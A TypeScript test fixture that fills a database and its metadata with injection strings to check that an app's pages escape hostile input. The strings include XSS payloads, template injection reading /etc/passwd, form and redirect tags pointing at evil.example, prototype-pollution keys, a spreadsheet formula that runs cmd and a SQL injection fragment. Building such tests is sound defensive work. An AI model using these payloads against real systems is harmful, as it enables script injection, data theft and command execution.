/** Calls this if it is ever run; the spec puts it into every page. */
export const ALARM = "attacked";

const call = (name: string): string => `${ALARM}(&quot;${name}&quot;)`;

/** Texts that would do something if any page took them for more than text. */
export const ATTACKS: readonly string[] = [
  `<script>${ALARM}("script")</script>`,
  `<img src=x onerror=${ALARM}("image")>`,
  `"><svg onload=${ALARM}("svg")>`,
  `'><iframe srcdoc="<script>parent.${ALARM}('frame')</script>">`,
  `</title></textarea></style></script><script>${ALARM}("closing")</script>`,
  `" onmouseover="${ALARM}('hover')" onfocus="${ALARM}('focus')" autofocus="`,
  `javascript:${ALARM}("link")`,
  `http://x/"onclick="${ALARM}('address')`,
  `{{constructor.constructor('${ALARM}("braces")')()}}`,
  `<%= ${ALARM}("eta") %><%~ include("/etc/passwd") %>`,
  `\${${ALARM}("literal")}#{${ALARM}("interpolation")}`,
  `<!--><script>${ALARM}("comment")</script>-->`,
  `]]><a href="java\tscript:${call("tab")}">x</a>`,
  `<form action=//evil.example><input name=q></form><base href=//evil.example/><meta http-equiv=refresh content="0;url=//evil.example">`,
  `\u202e<gnirts>\u2066\u200b\ufeff`,
  `__proto__`,
  `constructor`,
  `a]b"c'd\`e;drop table x--/*`,
  `=cmd|' /C calc'!A0`,
  `\u2028</script>\u2029`,
];

const quoted = (name: string): string => `"${name.replaceAll('"', '""')}"`;
const literal = (text: string): string => `'${text.replaceAll("'", "''")}'`;

/** A database in which every name and every value is one of them. */
export const attackSql = (): string =>
  ATTACKS.map((attack, index) => {
    const other = ATTACKS[(index + 7) % ATTACKS.length] ?? "";
    const label = ATTACKS[(index + 3) % ATTACKS.length] ?? "";
    const columns = `id integer primary key, ${quoted(attack)} text, ${quoted(`${other} `)} text, ref integer`;
    const key = `foreign key (ref) references ${quoted(other)}(id)`;
    return `
      create table ${quoted(attack)} (${columns}, ${key});
      insert into ${quoted(attack)} values
        (1, ${literal(attack)}, ${literal(`https://x/${label.replace(/\s/g, "")}`)}, 1),
        (2, ${literal(label)}, ${literal(attack.repeat(30))}, 1);
      create view ${quoted(`view ${attack}`)} as select * from ${quoted(attack)};`;
  }).join("\n");

/** Metadata in which every text is one of them. */
export function attackMetadata(): object {
  const text = (index: number): string => ATTACKS[index % ATTACKS.length] ?? "";
  const block = (index: number): object => ({
    title: text(index),
    description: text(index + 1),
    source: text(index + 2),
    source_url: text(index + 6),
    license: text(index + 3),
    license_url: text(6),
    about: text(index + 4),
    about_url: text(7),
  });
  const tables = ATTACKS.map((attack, index) => [
    attack,
    {
      ...block(index),
      facets: [attack],
      label_column: attack,
      columns: { [attack]: text(index + 5) },
      units: { id: text(index + 8) },
    },
  ]);
  const queries = ATTACKS.map((attack, index) => [
    `query ${attack}`,
    { ...block(index), sql: `select ${literal(attack)} as ${quoted(attack)}, :${"p"}`, fragment: attack },
  ]);
  return {
    ...block(0),
    // An object literal would take `__proto__` for something else.
    databases: { library: { ...block(1), tables: entries(tables), queries: entries(queries) } },
  };
}

const entries = (pairs: unknown): unknown => Object.fromEntries(pairs as [string, unknown][]);
